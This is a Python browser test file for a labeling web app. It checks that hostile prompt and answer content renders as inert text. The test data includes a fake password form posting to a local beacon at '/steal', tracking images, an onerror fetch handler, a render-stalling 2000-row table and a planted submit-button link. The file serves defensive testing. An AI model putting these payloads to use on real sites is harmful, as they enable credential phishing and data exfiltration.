"""Hostile content in real Chromium: a prompt with a form posting off-site, remote images (a beacon server counts
every request) and a 2000-row table, and an answer with an inline event handler. The page shows them as text,
loads nothing from the beacon, posts nowhere, and renders the capped table quickly."""

from __future__ import annotations

import http.server
import threading
import time
from typing import ClassVar

import httpx
import pytest
from sqlmodel import Session, select

from labeler.records.policies import ensure_initial_policy
from labeler.store.store import CompletionIn, add_completion_set, get_or_add_prompt
from labeler.store.tables import CompletionSet, Ranking, id_of
from labeler.ui.render import MAX_TABLE_ROWS
from tests.ui.conftest import PASSWORDS, free_port
from tests.ui.test_browser import CHROMIUM, browser, log_in  # noqa: F401  (the browser fixture)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium not installed at /usr/bin/chromium"),
]


class Beacon(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self):
        Beacon.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def beacon():
    port = free_port()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Beacon)
    Beacon.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{port}"
    server.shutdown()


def hostile_set(engine, beacon: str) -> None:
    table = "| " + " | ".join(f"c{i}" for i in range(20)) + " |\n|" + "---|" * 20 + "\n"
    table += "\n".join("| " + " | ".join(str(r * i) for i in range(20)) + " |" for r in range(2000))
    prompt = (
        f'<form action="{beacon}/steal" method="post"><input type="password" name="p">'
        f'<button id="hostile-go">Log in again</button></form>\n\n<img src="{beacon}/beacon.png">\n\n'
        f"![tracker]({beacon}/md.png)\n\n{table}"
    )
    answers = [f"<img src=x onerror=\"fetch('{beacon}/onerror')\">", "plain", "also plain", "fine"]
    with Session(engine) as s:
        version = ensure_initial_policy(session=s, base_model="tiny").id
        p = get_or_add_prompt(session=s, messages=[{"role": "user", "content": prompt}])
        add_completion_set(
            session=s,
            prompt_id=id_of(p),
            completions=[CompletionIn(a) for a in answers],
            policy_version_id=version,
        )


def test_hostile_prompt_neither_posts_nor_loads_remote_content_nor_stalls(running_app, browser, beacon):  # noqa: F811
    # the hostile set is the newest; the seeded ones come first, so rank them away through the API
    hostile_set(running_app.engine, beacon)
    assert "content-security-policy" in httpx.get(running_app.url).headers
    with Session(running_app.engine) as s:
        hostile_id = max(s.exec(select(CompletionSet.id)).all())
        for cset in s.exec(select(CompletionSet).where(CompletionSet.id != hostile_id)).all():
            cset.labels_needed = 0  # only the hostile set is waiting
            s.add(cset)
        s.commit()

    started = time.monotonic()
    page = log_in(browser, running_app.url, "alice", PASSWORDS["alice"])
    page.locator("#answer-0").wait_for(state="visible", timeout=20_000)
    page.get_by_text("more table rows not shown").wait_for(timeout=20_000)
    shown_after = time.monotonic() - started

    prompt = page.locator("#prompt")
    assert prompt.locator("form").count() == 0 and prompt.locator("input").count() == 0
    assert prompt.locator("img").count() == 0
    assert "<form" in prompt.inner_text()  # shown as text
    assert prompt.locator("tr").count() <= MAX_TABLE_ROWS + 1  # the header row and the body rows kept
    assert page.locator("#ranker img").count() == 0
    page.wait_for_timeout(1000)
    assert Beacon.hits == [], Beacon.hits
    # 2.7 s here, log-in and page load included; the uncapped table alone took 8.4 s to render
    assert shown_after < 8, f"the hostile page took {shown_after:.1f} s to show"


def test_a_prompt_cannot_plant_the_submit_button_enter_still_submits(running_app, browser, beacon):  # noqa: F811
    """The attack on the hand-written renderer: a link with the submit button's id inside `~~~` on one line, which
    the page's Enter handler found first. Now it is text, and Enter submits the ranking."""
    payload = (
        f'Summarise. ~~~ <a id="submit-btn" href="{beacon}/x"></a><input placeholder="re-enter password"> ~~~'
    )
    with Session(running_app.engine) as s:
        version = ensure_initial_policy(session=s, base_model="tiny").id
        for cset in s.exec(select(CompletionSet)).all():
            cset.labels_needed = 0  # only the planted set is waiting
            s.add(cset)
        p = get_or_add_prompt(session=s, messages=[{"role": "user", "content": payload}])
        add_completion_set(
            session=s,
            prompt_id=id_of(p),
            completions=[CompletionIn(a) for a in ("one", "two", "three", "four")],
            policy_version_id=version,
        )
    page = log_in(browser, running_app.url, "alice", PASSWORDS["alice"])
    page.locator("#answer-0").wait_for(state="visible", timeout=20_000)
    prompt = page.locator("#prompt")
    assert prompt.locator("a").count() == 0 and prompt.locator("input").count() == 0
    assert page.locator("[id=submit-btn]").count() == 1  # the page's own button, only
    for key in "1234":
        page.keyboard.press(key)
    page.keyboard.press("Enter")
    page.get_by_text("Saved.").wait_for(timeout=15_000)
    assert Beacon.hits == [] and page.url.startswith(running_app.url)
    with Session(running_app.engine) as s:
        ranked = s.exec(select(Ranking)).all()
    assert len(ranked) == 1 and sorted(ranked[0].ranks.values()) == [1, 2, 3, 4]
